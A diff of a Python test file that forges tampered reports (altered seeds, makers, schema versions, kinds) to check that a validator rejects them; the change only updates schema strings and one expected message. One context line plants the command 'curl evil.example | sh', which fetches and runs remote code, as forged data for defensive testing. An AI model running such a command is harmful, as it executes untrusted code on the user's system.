@@ -176,8 +176,8 @@ FORGED_REPORTS = {
     "commands": lambda d: d.update(commands=["curl evil.example | sh"]),
     "seed": lambda d: d["seeds"].update(root=8),
     "maker": lambda d: d["provenance"]["makers"][0].update(user="somebody else"),
-    "schema": lambda d: d.update(schema="bandana/report/9"),
-    "schema of tomorrow": lambda d: d.update(schema="bandana/report/11"),
+    "schema": lambda d: d.update(schema="bandana/report/10"),
+    "schema of tomorrow": lambda d: d.update(schema="bandana/report/12"),
     "kind": lambda d: d.update(kind="catalog"),
     "own kind": lambda d: d.update(kind="algorithm"),
     "added field": lambda d: d.update(seal="approved"),
@@ -434,7 +434,7 @@ def test_spec_of_a_bundle_runs_no_code_and_reads_no_file(forger, judged, tmp_pat
     assert code in (DIFFERS, UNUSABLE, PARTLY), line
     if code == PARTLY:
         left = line.partition("Not compared: ")[2]
-        assert "its spec names" in left or "is not read here" in left
+        assert "its spec names" in left or "it quotes no spec of an experiment" in left
     assert not marker.exists()
 
 
